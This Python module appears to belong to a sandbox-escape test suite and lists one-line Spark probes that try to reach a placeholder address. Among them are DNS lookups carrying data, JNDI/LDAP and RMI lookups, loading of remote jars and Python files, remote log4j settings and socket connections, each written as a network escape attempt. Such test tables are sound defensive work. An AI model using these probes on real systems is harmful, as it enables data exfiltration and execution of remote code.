"""Spark going out by a network: sources, drivers, downloads, masters, names, and its own ports seen from outside.

`P` is a port that is the attempt's own, on a documentation address of the closed network: what reaches it is noted
there, and nothing here needs an answer.
"""

from __future__ import annotations

from escapes.attempt import Table

SPARK_NETWORK = Table("Spark")
for _what, _code in {
    "the Spark UI, seen from outside": "",
    "Spark's own port, seen from outside": "",
    "Spark's port of blocks, seen from outside": "",
    "a server of Java's, seen from outside": "s = jvm.java.net.ServerSocket(P); time.sleep(1); s.close()",
    "a server of a function of Python, seen from outside": (
        "each(lambda: (socket.create_server(('0.0.0.0', P)), time.sleep(1))[1])"
    ),
}.items():
    SPARK_NETWORK.add(_what, _code, "network", by_listener="listens")
for _what, _code in {
    "a function of Python that connects": "each(lambda: socket.create_connection(('@AT', P), 3).sendall(b'x'))",
    "a function of Python that connects to the host's loopback": (
        "each(lambda: socket.create_connection(('::1', P), 3).close())"
    ),
    "a function of Python that sends a datagram": (
        "each(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('@AT', P)))"
    ),
    "a column's function of Python that connects": (
        "spark.range(1).select(udf(lambda _: str(socket.create_connection(('@AT', P), 3)))('id')).collect()"
    ),
    "a function over frames of pandas that connects": (
        "spark.range(1).mapInPandas(lambda x: (socket.create_connection(('@AT', P), 3), x)[1], 'id long').collect()"
    ),
    "a socket of Java's": "jvm.java.net.Socket('@AT', P).close()",
    "a socket of Java's to the host's loopback": "jvm.java.net.Socket('127.0.0.1', P).close()",
    "a channel of Java's": "jvm.java.nio.channels.SocketChannel.open(jvm.java.net.InetSocketAddress('@AT', P))",
    "a datagram of Java's": (
        "jvm.java.net.DatagramSocket().send(jvm.java.net.DatagramPacket("
        "bytearray(b'x'), 1, jvm.java.net.InetAddress.getByName('@AT'), P))"
    ),
    "an address of a page, opened by Java": "jvm.java.net.URL(f'http://@AT:{P}/x').openStream()",
    "classes of Java's from elsewhere": "classes(f'http://@AT:{P}/x.jar').loadClass('example.Stolen')",
    "a directory of names (LDAP) elsewhere": "jvm.javax.naming.InitialContext().lookup(f'ldap://@AT:{P}/x')",
    "calls of Java's (RMI) elsewhere": "jvm.java.rmi.registry.LocateRegistry.getRegistry('@AT', P).list()",
    "a name asked for by Java, with data in it": "jvm.java.net.InetAddress.getByName(f'p{P}.secret.example')",
    "a name asked for by SQL's reflect, with data in it": (
        "spark.sql(f\"SELECT reflect('java.net.InetAddress', 'getByName', 'p{P}.secret.example')\").collect()"
    ),
    "a name asked for by a function of Python": "each(lambda: socket.getaddrinfo(f'p{P}.secret.example', 80))",
    "a program started by Java that connects": (
        "java_runs('/usr/bin/python3', '-c', f'import socket; socket.create_connection((\"@AT\", {P}), 3)')"
    ),
    "Hadoop's file system over http": "hadoop(f'http://@AT:{P}/x')",
    "Hadoop's file system over https": "hadoop(f'https://@AT:{P}/x')",
    "spark.read over ftp": "texts(f'ftp://anonymous:x@@AT:{P}/x.txt')",
    "spark.read over hdfs": "texts(f'hdfs://@AT:{P}/x.txt')",
    "spark.read over webhdfs": "texts(f'webhdfs://@AT:{P}/x.txt')",
    "write.parquet over webhdfs": "spark.range(1).write.parquet(f'webhdfs://@AT:{P}/out')",
    "spark.read.jdbc": "jdbc(f'jdbc:hive2://@AT:{P}/', 't')",
    "a view of SQL's on JDBC": (
        "spark.sql(f\"CREATE TEMPORARY VIEW far USING jdbc OPTIONS (url 'jdbc:hive2://@AT:{P}/', dbtable 't', "
        "driver 'org.apache.hive.jdbc.HiveDriver')\")"
    ),
    "a stream from a socket": (
        "streams(spark.readStream.format('socket').option('host', '@AT').option('port', P).load()"
        ".writeStream.format('noop'))"
    ),
    "a stream's rows sent by a function of Python": (
        "streams(rate().foreachBatch(lambda *_: socket.create_connection(('@AT', P), 3)))"
    ),
    "a metastore of Hive's elsewhere": "metastore(f'thrift://@AT:{P}')",
    "a package of Maven's, fetched by Ivy": "ivy(f'http://@AT:{P}/'); spark.sql('ADD JAR ivy://org.example:stolen:1.0')",
    "a log's settings from elsewhere": "log_settings(f'http://@AT:{P}/log4j2.xml')",
    "a jar from elsewhere (addJar)": "sc._jsc.addJar(f'http://@AT:{P}/x.jar'); each(lambda: 1)",
    "a file from elsewhere (addFile)": "sc.addFile(f'http://@AT:{P}/x.txt')",
    "a program from elsewhere (addPyFile)": "sc.addPyFile(f'http://@AT:{P}/x.py')",
    "an archive from elsewhere (addArchive)": "sc.addArchive(f'http://@AT:{P}/x.zip')",
    "a master of Spark's elsewhere": "master(f'spark://@AT:{P}')",
}.items():
    SPARK_NETWORK.add(_what, _code.replace("@AT", "192.0.2.1"), "network", by_listener="connects")
